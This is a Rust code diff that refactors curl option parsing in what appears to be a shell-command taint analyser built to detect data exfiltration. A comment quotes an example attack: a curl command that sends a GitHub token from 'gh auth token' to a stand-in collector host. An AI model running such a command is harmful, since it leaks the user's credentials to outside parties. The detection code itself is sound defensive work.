@@ -267,31 +267,36 @@ pub(crate) fn interpreter(m: &mut Machine, name: &str, args: &[Value], stdin: &V
     }
 }
 
+/// Whether `option` is one of curl's options whose value is the request's payload.
+fn curl_data_option(option: &str) -> bool {
+    matches!(
+        option,
+        "-d" | "--data"
+            | "--data-binary"
+            | "--data-raw"
+            | "--data-urlencode"
+            | "-F"
+            | "--form"
+            | "-T"
+            | "--upload-file"
+            | "--json"
+    )
+}
+
 /// The address a request goes to: the first word with `://` that is not the value of an
 /// option (`-H "Referer: https://github.com/"`, `-d "repo=https://…"`, `-e URL`).
 fn request_address<'t>(texts: &[&'t str]) -> &'t str {
-    const VALUED: [&str; 16] = [
-        "-H",
-        "--header",
-        "-d",
-        "--data",
-        "--data-raw",
-        "--data-binary",
-        "--data-urlencode",
-        "-e",
-        "--referer",
-        "-F",
-        "--form",
-        "-u",
-        "--user",
-        "-b",
-        "--cookie",
-        "--json",
-    ];
+    let takes_value = |option: &str| {
+        curl_data_option(option)
+            || matches!(
+                option,
+                "-H" | "--header" | "-e" | "--referer" | "-u" | "--user" | "-b" | "--cookie"
+            )
+    };
     texts
         .iter()
         .enumerate()
-        .find(|&(i, t)| t.contains("://") && !t.starts_with('-') && (i == 0 || !VALUED.contains(&texts[i - 1])))
+        .find(|&(i, t)| t.contains("://") && !t.starts_with('-') && (i == 0 || !takes_value(texts[i - 1])))
         .map_or("", |(_, t)| *t)
 }
 
@@ -340,20 +345,6 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
     let texts: Vec<&str> = args.iter().map(|a| a.text.as_str()).collect();
     let mut sent = Value::default();
     let mut uses_stdin = false;
-    let data_flag = |t: &str| {
-        matches!(
-            t,
-            "-d" | "--data"
-                | "--data-binary"
-                | "--data-raw"
-                | "--data-urlencode"
-                | "-F"
-                | "--form"
-                | "-T"
-                | "--upload-file"
-                | "--json"
-        )
-    };
     // A token a program printed for one service, in a header to another host: stolen
     // (`-H "Authorization: Bearer $(gh auth token)" https://collector.example`).
     let address = request_address(&texts);
@@ -385,7 +376,7 @@ pub(crate) fn send(m: &mut Machine, name: &str, args: &[Value], stdin: &Value, l
                 ]
                 .iter()
                 .find_map(|f| t.strip_prefix(f));
-                let (payload_value, upload, consumed) = if data_flag(t) {
+                let (payload_value, upload, consumed) = if curl_data_option(t) {
                     (
                         args.get(i + 1).map(|v| (v.text.clone(), v.taint.clone())),
                         t == "-T" || t == "--upload-file",
